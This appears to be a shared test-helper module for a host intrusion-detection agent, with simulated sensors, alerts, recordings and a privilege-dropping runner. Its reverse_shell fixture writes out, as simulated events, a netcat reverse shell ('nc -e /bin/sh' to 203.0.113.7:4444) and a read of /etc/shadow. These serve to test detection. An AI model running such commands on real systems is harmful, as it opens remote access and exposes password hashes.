"""What the agent's tests share: make-believe sensors, alerts, and a reverse shell."""

import os
import subprocess
import sys
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import msgspec
import trio

from actors.agent.sensor import NoSensor
from actors.detection.alerts import Alert
from actors.detection.events import AnyEvent, ExecEvent, ForkEvent, SeedEvent
from actors.detection.testing import Host
from actors.recordings import FORMAT, Header

# The interpreter itself may lie where only root can look, so it drops root when all is imported.
_AS_NOBODY = """
import os, sys
from actors.agent import command
from actors.agent.__main__ import main
if os.geteuid() == 0:
    os.setgroups([])
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)
sys.exit(main())
"""
ROOT = Path(__file__).resolve().parent.parent.parent


def fork(time_ns: int, pid: int = 7) -> ForkEvent:
    return ForkEvent(time_ns, pid, 10_000_000, 1, 0, 0, "bash")


def an_exec(**fields: Any) -> ExecEvent:
    words: dict[str, Any] = {
        "time_ns": 5,
        "pid": 7,
        "start_ns": 10_000_000,
        "ppid": 1,
        "parent_start_ns": 0,
        "uid": 0,
        "login_uid": 4294967295,
        "cgroup_id": 1,
        "comm": "ls",
        "filename": "/usr/bin/ls",
        "exe": "/usr/bin/ls",
        "system_exe": True,
        "argv": ("ls", "-l"),
        "argv_cut": False,
        "cwd": "/",
        "user": "root",
        "error": 0,
    }
    return ExecEvent(**{**words, **fields})


def alert(**fields: Any) -> Alert:
    words: dict[str, Any] = {
        "time_ns": 5,
        "pid": 4242,
        "start_ns": 10_000_000,
        "uid": 0,
        "comm": "nc",
        "exe": "/tmp/nc",
        "system_exe": False,
        "rule": "Reverse shell",
        "rule_id": "r1",
        "techniques": ("T1059",),
        "detail": "what it did",
        "ancestry": "systemd=>bash=>nc",
        "score": 250,
        "severity": "CRITICAL",
        "base_score": 250,
        "lineage_bonus": 0,
        "rarity_bonus": 0,
        "sequence_bonus": 0,
        "event": "exec",
    }
    return Alert(**{**words, **fields})


class Script(NoSensor):
    """A live sensor whose sweeps a test has written: for each, what every ring holds.

    An exception in the place of a ring's events is raised by `read`; in the place of a sweep, by
    `snapshot`. After the last sweep every ring stays empty.
    """

    live = True

    def __init__(
        self, *sweeps: Mapping[str, Any] | Exception, seeds: Sequence[AnyEvent] = ()
    ) -> None:
        self.sweeps = list(sweeps)
        self.rings: dict[str, Any] = {}
        self.commits: list[str] = []
        self.ignored: list[ExecEvent] = []
        self._seeds = [seed for seed in seeds if isinstance(seed, SeedEvent)]

    def seeds(self) -> Sequence[SeedEvent]:
        return self._seeds

    async def wait(self, tick_secs: float, *, urgent: bool) -> bool:
        await trio.sleep(tick_secs)
        return False

    def snapshot(self) -> Mapping[str, int] | None:
        if self.sweeps:
            sweep = self.sweeps.pop(0)
            if isinstance(sweep, Exception):
                raise sweep
            self.rings.update(sweep)
        return dict.fromkeys(self.rings, 1)

    def read(self, ring: str, limit: int) -> Sequence[AnyEvent]:
        events = self.rings.get(ring, ())
        if isinstance(events, Exception):
            self.rings[ring] = ()
            raise events
        return list(events)

    def commit(self, ring: str) -> None:
        self.commits.append(ring)
        self.rings.pop(ring, None)

    def ignore(self, event: ExecEvent) -> None:
        self.ignored.append(event)

    def counters(self) -> dict[str, dict[str, int]]:
        return {"exec": {"seen": 3, "delivered": 2, "lost": 1}}


def reverse_shell() -> Host:
    """A host on which a web server's shell has connected back and read a password file."""
    host = Host()
    server = host.seed(host.init, "/usr/sbin/nginx")
    shell, _ = host.run(server, "/usr/bin/bash", "-i")
    host.connect(shell, "203.0.113.7", 4444)
    host.open(shell, "/etc/shadow")
    tool, _ = host.run(shell, "/tmp/.x/nc", "-e", "/bin/sh", "203.0.113.7", "4444", system=False)
    host.connect(tool, "203.0.113.7", 4444)
    host.exit(tool)
    host.exit(shell)
    return host


def recording(host: Host, *, sweep: int = 3) -> bytes:
    """The host's events as a recording with this many events in a sweep."""
    seeds = [event for event in host.events if isinstance(event, SeedEvent)]
    rest = [event for event in host.events if not isinstance(event, SeedEvent)]
    header = Header(FORMAT, "00000000-0000-0000-0000-000000000000", 1_700_000_000 * 10**9, seeds)
    lines = [rest[begin : begin + sweep] for begin in range(0, len(rest), sweep)]
    return b"".join(msgspec.json.encode(line) + b"\n" for line in (header, *lines))


def agent(*words: str, **options: Any) -> subprocess.CompletedProcess[bytes]:
    """Run the agent's command line, as nobody if we are root."""
    environment = {name: os.environ[name] for name in os.environ if "LAVENDER" not in name}
    defaults: dict[str, Any] = {
        "cwd": ROOT,
        "env": {**environment, "PYTHONDONTWRITEBYTECODE": "1"},
        "timeout": 60,
        "stdin": subprocess.DEVNULL,
    }
    if "stdout" not in options:
        defaults["stdout"] = subprocess.PIPE
    if "stderr" not in options:
        defaults["stderr"] = subprocess.PIPE
    command = [sys.executable, "-c", _AS_NOBODY, *words]
    return subprocess.run(command, check=False, **{**defaults, **options})


@contextmanager
def full_pipe() -> Iterator[tuple[int, int]]:
    """A pipe that takes no byte more; (reader, writer)."""
    reader, writer = os.pipe()
    os.set_blocking(writer, False)
    try:
        while True:
            os.write(writer, b"x" * 4096)
    except BlockingIOError:
        os.set_blocking(writer, True)
    try:
        yield reader, writer
    finally:
        os.close(reader)
        os.close(writer)


def empty(reader: int) -> bytes:
    """All that is in a pipe now, without waiting for more."""
    os.set_blocking(reader, False)
    parts = []
    try:
        while part := os.read(reader, 1 << 16):
            parts.append(part)
    except BlockingIOError:
        os.set_blocking(reader, True)
    return b"".join(parts)
